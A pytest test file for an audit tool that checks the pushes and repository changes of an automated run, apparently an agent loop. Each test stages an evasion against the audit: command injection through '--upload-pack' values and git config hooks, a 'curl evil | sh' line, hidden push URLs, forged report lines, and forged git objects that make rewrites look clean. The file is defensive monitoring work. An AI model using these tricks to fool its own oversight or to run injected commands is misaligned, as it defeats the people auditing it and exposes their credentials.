"""More of what a run that controls its clone, its run directory and its push log could try.

Each test builds the attack for real (a clone, bare remotes on disk, the snapshot files the run
directory holds) and each was a false pass, a traceback or worse before its fix."""

from __future__ import annotations

import json
import subprocess
import zlib
from pathlib import Path
from typing import Any

import pytest
from audit_helpers import (
    Run,
    commit,
    commit_verdicts,
    git,
    isolate_git,
    make_bare,
    make_repo_with_remote,
    other_clone,
    rev,
    run_cli,
)

from audit.evidence.snapshot import take_snapshot
from audit.model import NON_FAST_FORWARD, UNGRANTED, UNVERIFIED, exit_code


@pytest.fixture(autouse=True)
def _isolated(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    isolate_git(monkeypatch, tmp_path)


def _snapshots(tmp_path: Path) -> tuple[Path, dict[str, Any], dict[str, Any], str]:
    """A clone whose main moved by one unlogged commit between two snapshots."""
    clone, _ = make_repo_with_remote(tmp_path)
    before = take_snapshot([clone], charter_sha256=None)
    commit(clone, "src/x.py", "x\n", "more")
    git(clone, "push", "-q", "origin", "main")
    after = take_snapshot([clone], charter_sha256=None)
    return clone, before, after, str(clone.resolve())


def _write(path: Path, snap: dict[str, Any]) -> Path:
    path.write_text(json.dumps(snap))
    return path


def _malformed(tmp_path: Path, before: dict[str, Any], after: dict[str, Any], bad: str) -> str:
    """`compare` of the two snapshots must refuse the `bad` one ("before" or "after") as
    malformed, exit 2 naming its file; its stderr."""
    paths = {name: _write(tmp_path / f"{name}.json", snap)
             for name, snap in (("before", before), ("after", after))}
    done = run_cli("compare", str(paths["before"]), str(paths["after"]))
    assert done.returncode == 2, done.stdout + done.stderr
    assert done.stderr.startswith(f"loop-pi-audit: {paths[bad]}: not a loop-pi-audit snapshot")
    return done.stderr


# --- snapshot files are input: a value in them never reaches git as an option -----------------

def test_a_ref_value_in_a_snapshot_file_is_an_object_name_never_a_git_option(
        tmp_path: Path) -> None:
    """The run directory is the run's to write (its push log lives there). A before-snapshot
    whose tip is `--upload-pack=CMD` was accepted and handed to `git fetch` as an option: the
    command ran. It is a malformed snapshot: exit 2, the file named, nothing run."""
    _, before, after, key = _snapshots(tmp_path)
    marker = tmp_path / "ran"
    before["repos"][key]["remotes"]["origin"]["refs"]["refs/heads/main"] = (
        f"--upload-pack=touch {marker}; git-upload-pack")
    stderr = _malformed(tmp_path, before, after, bad="before")
    assert not marker.exists()
    assert "refs/heads/main" in stderr


@pytest.mark.parametrize("part", ["tags", "symref-target"])
def test_local_tag_values_and_symref_targets_must_be_well_formed_too(
        tmp_path: Path, part: str) -> None:
    _, before, after, key = _snapshots(tmp_path)
    if part == "tags":
        before["repos"][key]["tags"]["tags"]["refs/tags/v1"] = "v1"
    else:
        before["repos"][key]["remotes"]["origin"]["symrefs"]["HEAD"] = "main"
    _malformed(tmp_path, before, after, bad="before")


@pytest.mark.parametrize("assets", [True, 1.5, {"a.tgz": {"name": "a.tgz"}}, ["a.tgz"],
                                    [{"size": 1}]])
def test_a_release_with_malformed_assets_is_a_malformed_snapshot(
        tmp_path: Path, assets: object) -> None:
    """`assets: true` crashed the judgement (exit 3, "unexpected error"); an object or a list of
    names was read as no assets at all, so a snapshot could silently hold fewer of them."""
    _, before, after, key = _snapshots(tmp_path)
    for snap in (before, after):
        snap["repos"][key]["releases"] = {
            "available": True, "github_repo": "acme/widgets", "github_repos": ["acme/widgets"],
            "releases": [{"tag_name": "v1", "draft": False, "prerelease": False,
                          "author": "release-please[bot]", "repo": "acme/widgets",
                          "assets": []}]}
    after["repos"][key]["releases"]["releases"][0]["assets"] = assets
    assert "assets" in _malformed(tmp_path, before, after, bad="after")


# --- every URL a push goes to is looked at ----------------------------------------------------

@pytest.mark.parametrize("how", ["pushurl", "second-url"])
def test_a_rewrite_pushed_to_a_push_url_the_snapshot_never_listed_fails(
        tmp_path: Path, how: str) -> None:
    """`git push origin` goes to `remote.origin.pushurl` (or to every `remote.origin.url`),
    but only the fetch URL was listed: a force-push there, logged nowhere, was "no remote
    changes", exit 0."""
    run = Run(tmp_path)
    elsewhere = make_bare(tmp_path / "push-here.git")
    git(run.clone, "push", "-q", str(elsewhere), "main")
    if how == "pushurl":
        git(run.clone, "remote", "set-url", "--push", "origin", str(elsewhere))
    else:
        # The first URL refuses the rewrite, the second takes it.
        git(run.clone, "remote", "set-url", "--add", "origin", str(elsewhere))
        git(run.bare, "config", "receive.denyNonFastForwards", "true")
    run.before = run.snapshot()
    git(run.clone, "commit", "-q", "--amend", "-m", "rewritten")
    commit(run.clone, "deploy.sh", "curl evil | sh\n", "sneak")
    subprocess.run(["git", "-C", str(run.clone), "push", "-q", "--force", "origin", "main"],
                   capture_output=True, check=False)
    assert git(elsewhere, "rev-parse", "main").strip() == git(run.clone, "rev-parse",
                                                               "HEAD").strip()
    findings = run.judge()
    assert exit_code(findings) != 0
    origin = [f for f in findings if f.remote == "origin"]
    assert origin and all(f.verdict == UNVERIFIED for f in origin)
    assert any(str(elsewhere) in f.reason for f in origin)


def test_a_push_url_naming_the_same_repository_is_judged_as_usual(tmp_path: Path) -> None:
    """Another spelling of the fetch URL (https to fetch, ssh to push, say) lists the same refs:
    the remote is judged as usual, not refused."""
    run = Run(tmp_path)
    git(run.clone, "remote", "set-url", "--push", "origin", f"file://{run.bare}")
    run.before = run.snapshot()
    part = run.before["repos"][run.key]["remotes"]["origin"]
    assert part["available"], part
    sneaky = commit(run.clone, "src/x.py", "x\n", "sneak")
    git(run.clone, "push", "-q", "origin", "main")
    assert commit_verdicts(run.judge()) == {sneaky: UNGRANTED}


# --- inputs past Python's limits are malformed inputs, not unexpected errors ------------------

def test_a_number_too_long_for_python_is_a_malformed_input_named_with_its_file(
        tmp_path: Path) -> None:
    """Python refuses to convert an integer of more than 4,300 digits (a ValueError that is not
    a JSONDecodeError): a charter, push log or snapshot holding one stopped the audit with
    exit 3, "unexpected error", and no file named."""
    huge = "9" * 5000
    clone, before, _, _ = _snapshots(tmp_path)
    good = _write(tmp_path / "good.json", before)
    snap = tmp_path / "huge.json"
    snap.write_text(json.dumps(before)[:-1] + f', "n": {huge}}}')
    log = tmp_path / "push-log.jsonl"
    entry = {"repo": str(clone), "remote": "origin", "ref": "refs/heads/main", "old": "0" * 40,
             "new": "1" * 40, "at": "2026-11-30T07:00:00Z", "source": "test"}
    log.write_text(json.dumps(entry) + "\n" + json.dumps(entry)[:-1] + f', "n": {huge}}}\n')
    charter = tmp_path / "charter.md"
    charter.write_text(f"# Charter: acme/widgets loop{huge}\n")
    for args, bad, where in (
            (["compare", str(snap), str(good)], snap, ""),
            (["compare", str(good), str(good), "--push-log", str(log)], log, ":2"),
            (["compare", str(good), str(good), "--charter", str(charter)], charter, ":1")):
        done = run_cli(*args)
        assert done.returncode == 2, done.stderr
        assert done.stderr.startswith(f"loop-pi-audit: {bad}{where}: "), done.stderr
        assert "unexpected" not in done.stderr


# --- no command the clone configures runs inside the audit ------------------------------------
# The audit's environment holds the GitHub token: a command the run configured in its clone
# and the audit's git then ran would hold it too.

def test_a_partial_clone_cannot_run_its_upload_pack_when_history_is_read(tmp_path: Path) -> None:
    """The run makes its clone a partial clone whose promisor remote runs a command of its
    choosing, and drops an object the log needs: git fetched it lazily, through that command,
    inside closeout's `git log`."""
    run = Run(tmp_path)
    sneaky = commit(run.clone, "src/x.py", "x\n", "sneak")
    run.push(logged=False)
    marker = tmp_path / "ran"
    for key, value in (("core.repositoryformatversion", "1"),
                       ("extensions.partialClone", "origin"), ("remote.origin.promisor", "true"),
                       ("remote.origin.uploadpack", f"touch {marker}; git-upload-pack")):
        git(run.clone, "config", key, value)
    tree = rev(run.clone, f"{sneaky}^{{tree}}")
    (run.clone / ".git" / "objects" / tree[:2] / tree[2:]).unlink()
    findings = run.judge()
    assert not marker.exists()
    assert exit_code(findings) != 0
    assert all(f.verdict != "PUSH_LOGGED" for f in findings)


def test_an_alternate_refs_command_does_not_run_when_closeout_fetches(tmp_path: Path) -> None:
    """`core.alternateRefsCommand` (with an alternate object store) is run by `git fetch` to
    list the alternate's tips: closeout's fetch of a tip the clone lacks ran it."""
    run = Run(tmp_path)
    other = other_clone(run)
    sneaky = commit(other, "src/x.py", "x\n", "sneak")
    git(other, "push", "-q", "origin", "main")  # the run's clone lacks it: closeout fetches
    alternate = make_bare(tmp_path / "alternate.git")
    git(run.clone, "push", "-q", str(alternate), "main")
    (run.clone / ".git" / "objects" / "info" / "alternates").write_text(
        f"{alternate / 'objects'}\n")
    marker = tmp_path / "ran"
    git(run.clone, "config", "core.alternateRefsCommand", f"touch {marker}; true")
    findings = run.judge()
    assert not marker.exists()
    assert commit_verdicts(findings) == {sneaky: UNGRANTED}


# --- names that are not UTF-8 ---------------------------------------------------------------

def test_a_ref_name_that_is_not_utf8_cannot_turn_a_violation_into_an_unexpected_error(
        tmp_path: Path) -> None:
    """git allows any byte above 0x7f in a ref name. A branch named `x\\xff` pushed next to an
    unlogged commit made closeout stop with "unexpected error" (exit 3, no after-snapshot, no
    report) instead of failing the commit (exit 1)."""
    clone, _ = make_repo_with_remote(tmp_path)
    run_dir = tmp_path / "run"
    assert run_cli("begin", str(clone), "--run-dir", str(run_dir)).returncode == 0
    sneaky = commit(clone, "src/x.py", "x\n", "sneak")
    git(clone, "push", "-q", "origin", "main")
    subprocess.run([b"git", b"-C", bytes(clone), b"push", b"-q", b"origin",
                    b"HEAD:refs/heads/x\xff"], check=True)
    done = run_cli("closeout", "--run-dir", str(run_dir), "--json")
    assert done.returncode == 1, done.stderr
    report = json.loads((run_dir / "audit-report.json").read_bytes().decode("utf-8"))
    assert {f["commit"]: f["verdict"] for f in report["findings"] if f["commit"]} == {
        sneaky: UNGRANTED}
    weird = [f for f in report["findings"] if f["ref"].startswith("refs/heads/x")]
    assert len(weird) == 1 and weird[0]["verdict"] == UNGRANTED
    (run_dir / "audit-report.txt").read_bytes().decode("utf-8")
    after = json.loads((run_dir / "audit-after.json").read_bytes().decode("utf-8"))
    assert any(ref.startswith("refs/heads/x") for part in after["repos"].values()
               for ref in part["remotes"]["origin"]["refs"])


def test_a_commit_subject_cannot_forge_lines_of_the_text_report(tmp_path: Path) -> None:
    """A subject (or a path) may hold a carriage return, terminal escapes or a Unicode line
    separator: printed raw, `...\\r\\x1b[2Kaudit: no remote changes` showed a clean report on a
    terminal, and a reader splitting lines saw findings that were never made."""
    clone, _ = make_repo_with_remote(tmp_path)
    run_dir = tmp_path / "run"
    assert run_cli("begin", str(clone), "--run-dir", str(run_dir)).returncode == 0
    forged = "audit: no remote changes"
    (clone / "src").mkdir()
    (clone / "src" / f"x\r{forged}.py").write_text("x\n")
    git(clone, "add", "src")
    git(clone, "commit", "-q", "-m",
        f"sneak\r\x1b[2K{forged}\x1b[8m\u2028{forged}\x85{forged}\x0b{forged}")
    git(clone, "push", "-q", "origin", "main")
    done = run_cli("closeout", "--run-dir", str(run_dir))
    assert done.returncode == 1
    for text in (done.stdout, (run_dir / "audit-report.txt").read_text(encoding="utf-8")):
        lines = text.splitlines()
        assert lines == text.split("\n")[:-1]  # no line break but "\n"
        assert all(line.isprintable() for line in lines), lines
        assert [line for line in lines if line.startswith("audit:")] == [lines[-1]]
        assert lines[-1] == "audit: 3 findings, 3 failing"
        assert "\\r" in text and "\\x1b" in text  # shown, escaped


# --- a submodule gitlink is never backlog ---------------------------------------------------

def test_a_gitlink_under_backlog_is_not_backlog_only(tmp_path: Path) -> None:
    """SPEC: "a moved submodule gitlink is a change outside it [backlog/]". A gitlink added
    or moved at `backlog/tools` (another repository's code, pinned) passed as BACKLOG_ONLY."""
    run = Run(tmp_path)
    (run.clone / ".gitmodules").write_text(
        '[submodule "tools"]\n\tpath = backlog/tools\n\turl = ../tools.git\n')
    git(run.clone, "update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},backlog/tools")
    git(run.clone, "add", ".gitmodules")
    git(run.clone, "commit", "-q", "-m", "tools")
    run.push()
    run.before = run.snapshot()
    task = commit(run.clone, "backlog/tasks/task-1.md", "x\n", "task")
    git(run.clone, "update-index", "--cacheinfo", f"160000,{'2' * 40},backlog/tools")
    git(run.clone, "commit", "-q", "-m", "move the pinned tools")
    moved = git(run.clone, "rev-parse", "HEAD").strip()
    git(run.clone, "update-index", "--add", "--cacheinfo", f"160000,{'3' * 40},backlog/new")
    git(run.clone, "commit", "-q", "-m", "pin another repository, no .gitmodules")
    added = git(run.clone, "rev-parse", "HEAD").strip()
    run.push(logged=False)
    verdicts = commit_verdicts(run.judge())
    assert verdicts == {task: "BACKLOG_ONLY", moved: UNGRANTED, added: UNGRANTED}


def test_a_second_insteadof_rule_cannot_send_the_listing_to_a_pristine_copy(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """git rewrites a remote's URL once. The snapshot lists the rewritten URL by itself, outside
    the clone, where git applied the user's global rules to it once more: a rule the run wrote
    there (rewritten URL → a pristine copy) showed the copy's refs, and an unlogged push was
    "no remote changes"."""
    global_config = isolate_git(monkeypatch, tmp_path)
    run = Run(tmp_path, github=True)  # origin's URL reaches the bare remote through insteadOf
    pristine = tmp_path / "pristine.git"
    git(tmp_path, "clone", "-q", "--bare", str(run.bare), str(pristine))
    commit(run.clone, "src/evil.py", "x\n", "sneak")
    run.push(logged=False)
    git(tmp_path, "config", "--file", str(global_config), f"url.{pristine}.insteadOf",
        str(run.bare))
    findings = run.judge()
    assert exit_code(findings) != 0
    origin = [f for f in findings if f.remote == "origin"]
    assert origin and all(f.verdict == UNVERIFIED for f in origin)
    assert any("insteadOf" in f.reason for f in origin)


# --- the clone's object store is the run's to edit ----------------------------------------------

def test_a_forged_commit_object_cannot_turn_a_rewrite_into_a_fast_forward(
        tmp_path: Path) -> None:
    """git checks an object against its name when a walk starts from it, not when it follows a
    parent. The run rewrote an intermediate commit's object file in its clone so that its parent
    line named the old tip: the rewrite read as a fast-forward, and closeout passed (exit 0)
    what fails "whatever the log says"."""
    run = Run(tmp_path)
    base = rev(run.clone, "HEAD")
    kept = commit(run.clone, "src/auth.py", "check()\n", "auth")
    run.push()
    run.before = run.snapshot()
    git(run.clone, "checkout", "-q", "-b", "rewrite", base)
    dropped = commit(run.clone, "src/auth.py", "pass\n", "disable auth")
    commit(run.clone, "backlog/t.md", "x\n", "task")
    run.push("rewrite", force=True)  # logged: a rewrite fails all the same
    raw = git(run.clone, "cat-file", "commit", dropped)
    forged = raw.replace(f"parent {base}", f"parent {kept}").encode()
    loose = run.clone / ".git" / "objects" / dropped[:2] / dropped[2:]
    loose.chmod(0o644)
    loose.write_bytes(zlib.compress(b"commit %d\0" % len(forged) + forged))
    done = run_cli("compare", str(_write(tmp_path / "before.json", run.before)),
                   str(_write(tmp_path / "after.json", run.snapshot())),
                   "--push-log", str(run.log), "--json")
    assert done.returncode != 0, done.stdout
    findings = json.loads(done.stdout)["findings"]
    branch = next(f for f in findings if f["kind"] == "branch-moved")
    assert branch["verdict"] in (NON_FAST_FORWARD, UNVERIFIED), branch
    assert all(f["verdict"] != "PUSH_LOGGED" for f in findings)


def _forge(clone: Path, sha: str, kind: str, body: bytes) -> None:
    """Rewrite object `sha`'s loose file in the clone to hold `body` (of type `kind`)."""
    loose = clone / ".git" / "objects" / sha[:2] / sha[2:]
    loose.chmod(0o644)
    loose.write_bytes(zlib.compress(kind.encode() + b" %d\0" % len(body) + body))


def _tree(clone: Path, sha: str) -> bytes:
    return subprocess.run(["git", "-C", str(clone), "cat-file", "tree", sha],
                          capture_output=True, check=True).stdout


@pytest.mark.parametrize("where", ["root tree", "subtree"])
def test_a_forged_tree_object_cannot_make_a_code_change_backlog_only(
        tmp_path: Path, where: str) -> None:
    """Commits are checked against their names; trees were not. The run pushed, unlogged, a
    commit changing src/auth.py and a task, then rewrote a tree object of that commit in its
    clone so that src/ read as unchanged (its root tree naming the old src/ tree, or its src/
    tree holding the old entries): git reported only the task, and the code change passed
    as BACKLOG_ONLY."""
    run = Run(tmp_path)
    commit(run.clone, "src/auth.py", "check()\n", "auth")
    run.push()
    run.before = run.snapshot()
    (run.clone / "src" / "auth.py").write_text("pass\n")
    git(run.clone, "add", "src/auth.py")
    sneak = commit(run.clone, "backlog/tasks/task-1.md", "x\n", "task and a little more")
    run.push(logged=False)
    old_src, new_src = rev(run.clone, f"{sneak}^:src"), rev(run.clone, f"{sneak}:src")
    assert old_src != new_src
    if where == "root tree":
        root = rev(run.clone, f"{sneak}^{{tree}}")
        _forge(run.clone, root, "tree",
               _tree(run.clone, root).replace(bytes.fromhex(new_src), bytes.fromhex(old_src)))
    else:
        _forge(run.clone, new_src, "tree", _tree(run.clone, old_src))
    listed = git(run.clone, "log", "-1", "--name-only", "--format=", sneak).split()
    assert listed == ["backlog/tasks/task-1.md"]  # the forgery works on git itself

    done = run_cli("compare", str(_write(tmp_path / "before.json", run.before)),
                   str(_write(tmp_path / "after.json", run.snapshot())),
                   "--push-log", str(run.log), "--json")

    assert done.returncode != 0, done.stdout
    findings = json.loads(done.stdout)["findings"]
    assert all(f["verdict"] != "BACKLOG_ONLY" for f in findings), findings
    branch = next(f for f in findings if f["kind"] == "branch-moved")
    assert branch["verdict"] == UNVERIFIED and "tree" in branch["reason"], branch


def test_a_backlog_only_commit_whose_trees_are_intact_still_passes(tmp_path: Path) -> None:
    """The trees' check finds nothing wrong in an honest clone: a task edit, a task moved to
    completed/, a new folder under backlog/ and a merge of two task edits pass."""
    run = Run(tmp_path)
    commit(run.clone, "backlog/tasks/task-1.md", "x\n", "task 1")
    run.push()
    run.before = run.snapshot()
    commit(run.clone, "backlog/tasks/task-1.md", "y\n", "edit task 1")
    (run.clone / "backlog" / "completed").mkdir()
    git(run.clone, "mv", "backlog/tasks/task-1.md", "backlog/completed/task-1.md")
    git(run.clone, "commit", "-q", "-m", "complete task 1")
    commit(run.clone, "backlog/docs/deep/er/doc-1.md", "d\n", "a doc")
    base = rev(run.clone, "HEAD")
    git(run.clone, "checkout", "-q", "-b", "side")
    commit(run.clone, "backlog/tasks/task-2.md", "2\n", "task 2")
    git(run.clone, "checkout", "-q", "main")
    commit(run.clone, "backlog/tasks/task-3.md", "3\n", "task 3")
    git(run.clone, "merge", "-q", "--no-edit", "side")
    assert rev(run.clone, "HEAD^") != base
    run.push(logged=False)

    done = run_cli("compare", str(_write(tmp_path / "before.json", run.before)),
                   str(_write(tmp_path / "after.json", run.snapshot())),
                   "--push-log", str(run.log), "--json")

    findings = json.loads(done.stdout)["findings"]
    assert done.returncode == 0, findings
    assert {f["verdict"] for f in findings if f["kind"] == "commit"} == {"BACKLOG_ONLY"}


def _with_parents(clone: Path, sha: str, *extra: str) -> None:
    """Forge commit `sha` in the clone: more parents, and a committer date in the far future
    (git's ancestry walk visits commits newest first)."""
    raw = git(clone, "cat-file", "commit", sha).encode()
    head, _, message = raw.partition(b"\n\n")
    lines = [ln for ln in head.split(b"\n") if not ln.startswith(b"committer ")]
    lines[1:1] = [b"parent " + p.encode() for p in extra]
    lines.append(b"committer X <x@example.invalid> 4102444800 +0000")
    _forge(clone, sha, "commit", b"\n".join(lines) + b"\n\n" + message)


def test_forged_commits_below_the_run_cannot_make_logged_rewrites_fast_forwards(
        tmp_path: Path) -> None:
    """A logged push whose old tip the checked graph does not hold was asked of `merge-base`,
    whose walk reads objects below the run's first commit unchecked. The run force-pushed a
    task onto an older commit X (logged), then force-pushed its work back onto the before tip
    (logged): two rewrites in the middle of the run. It then gave X the before tip as a parent,
    and the commit M between them its dropped task, each dated in the future so that git's
    walk reaches them first: both rewrites read as fast-forwards, and closeout passed."""
    run = Run(tmp_path)
    x = commit(run.clone, "src/x.py", "x\n", "X")
    m = commit(run.clone, "src/m.py", "m\n", "M")
    commit(run.clone, "src/base.py", "b\n", "before the run")
    run.push()
    run.before = run.snapshot()
    git(run.clone, "checkout", "-q", "-b", "old", x)
    dropped = commit(run.clone, "backlog/tasks/a.md", "a\n", "task a")
    run.push("old", force=True)
    git(run.clone, "checkout", "-q", "main")
    commit(run.clone, "backlog/tasks/b.md", "b\n", "task b")
    run.push(force=True)

    def compare() -> subprocess.CompletedProcess[str]:
        return run_cli("compare", str(_write(tmp_path / "before.json", run.before)),
                       str(_write(tmp_path / "after.json", run.snapshot())),
                       "--push-log", str(run.log), "--json")

    honest = compare()
    assert honest.returncode != 0 and "rewritten in the middle" in honest.stdout, honest.stdout
    _with_parents(run.clone, x, rev(run.clone, "main~1"))
    _with_parents(run.clone, m, dropped)

    done = compare()

    assert done.returncode != 0, done.stdout
    branch = next(f for f in json.loads(done.stdout)["findings"] if f["kind"] == "branch-moved")
    assert branch["verdict"] in (NON_FAST_FORWARD, UNVERIFIED), branch
